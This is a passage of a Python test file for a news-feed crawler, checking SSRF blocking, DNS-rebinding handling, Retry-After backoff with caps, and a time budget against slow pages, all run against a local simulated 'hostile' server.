    assert fetch(ok, f"http://rebind.example:{refused_host.port}/feed", resolver=_map({"rebind.example": ["127.0.0.2"]})).body == b"internal"


def test_strict_crawl_records_blocked_sources_and_images_are_never_fetched_server_side(hostile, storage, settings):
    hostile.simple("/img.jpg", b"\xff\xd8\xff")
    hostile.routes["/a/1.html"] = lambda h: hostile.reply(h, 200, {"Content-Type": "text/html"}, b"<p>x</p>")
    hostile.simple("/feed.xml", rss([dict(title=AR, link=f"{hostile.base}/a/1.html", guid="i1", description=AR,
                                           image=hostile.url("/img.jpg"))]))
    strict = dataclasses.replace(settings, ssrf_strict=True, fetch_pages=True)
    by_name, _, _ = crawl(storage, strict, {"local": hostile.url("/feed.xml")})
    assert "blocked" in by_name["local"].last_error and "strict" in by_name["local"].last_error
    assert hostile.log == []
    # allowed again: the feed and the page are fetched, the image is not (the reader's browser loads it)
    by_name, _, _ = crawl(storage, settings, {})
    assert by_name["local"].last_error is None
    assert hostile.hits("/feed.xml") == 1 and hostile.hits("/a/1.html") == 1 and hostile.hits("/img.jpg") == 0
    art = storage.list_articles(source_id=by_name["local"].id).items[0]
    assert art.image == hostile.url("/img.jpg")


# -- Retry-After -------------------------------------------------------------------

def test_429_and_503_back_off_per_retry_after_and_absurd_values_are_capped(hostile, storage, settings):
    from email.utils import format_datetime

    later = format_datetime(datetime.now(timezone.utc) + timedelta(hours=3), usegmt=True)
    hostile.simple("/429.xml", b"", status=429, headers={"Retry-After": "7200"})
    hostile.simple("/503.xml", b"", status=503, headers={"Retry-After": later})
    hostile.simple("/absurd.xml", b"", status=503, headers={"Retry-After": "9" * 400})
    hostile.simple("/year9999.xml", b"", status=429, headers={"Retry-After": "Fri, 31 Dec 9999 23:59:59 GMT"})
    hostile.simple("/plain503.xml", b"", status=503)
    hostile.simple("/ok.xml", rss(good_items(hostile.base, "ok", 1)))
    s = dataclasses.replace(settings, fetch_pages=False, poll_interval=900.0)
    now = datetime.now(timezone.utc)
    by_name, _, took = crawl(storage, s, {n: hostile.url(f"/{n}.xml") for n in ("429", "503", "absurd", "year9999", "plain503", "ok")})
    assert took < 10

    def due_in(name):
        return (by_name[name].next_poll_at - now).total_seconds()

    assert by_name["429"].last_error == "HTTP 429" and 7200 - 5 <= due_in("429") <= 7200 + 30
    assert 3 * 3600 - 60 <= due_in("503") <= 3 * 3600 + 60
    week = 7 * 24 * 3600
    assert week - 60 <= due_in("absurd") <= week + 60 and week - 60 <= due_in("year9999") <= week + 60
    assert 1800 - 5 <= due_in("plain503") <= 1800 + 30  # plain exponential backoff: 900 s x 2
    assert by_name["ok"].last_error is None and storage.count_articles(by_name["ok"].id) == 1
    # the 429 was not retried inline (Retry-After is longer than a crawl waits)
    assert hostile.hits("/429.xml") == 1


def test_a_source_of_dripping_pages_cannot_hold_the_crawl_past_its_poll_budget(hostile, storage, settings):
    from akhbar.crawl import POLL_PAGE_BUDGET

    base = hostile.base
    items = good_items(base, "slow", 40)
    for i in range(40):
        hostile.drip(f"/slow/{i}.html", seconds=10)
    hostile.simple("/slow.xml", rss(items))
    other = Hostile("127.0.0.2")
    try:
        other.simple("/ok.xml", rss(good_items(other.base, "fine", 2)))
        s = dataclasses.replace(settings, fetch_deadline=0.5, allow_hosts=("127.0.0.0/8",))
        # without the budget: 40 pages x 0.5 s / 2 per host = 10 s
        by_name, report, took = crawl(storage, s, {"slow": hostile.url("/slow.xml"), "ok": other.url("/ok.xml")})
    finally:
        other.close()
    # the budget (2.5 s) plus storing 40 articles; without it the pages alone take 10 s
    assert took < POLL_PAGE_BUDGET * 0.5 + 6, took
    slow = storage.list_articles(source_id=by_name["slow"].id, limit=100).items
    assert len(slow) == 40 and not any(a.extracted for a in slow)  # kept with the feed's text
    assert by_name["slow"].last_error is None and by_name["ok"].last_error is None
    assert storage.count_articles(by_name["ok"].id) == 2
    assert hostile.hits("/slow/0.html") == 1 and sum(hostile.hits(f"/slow/{i}.html") for i in range(40)) < 20
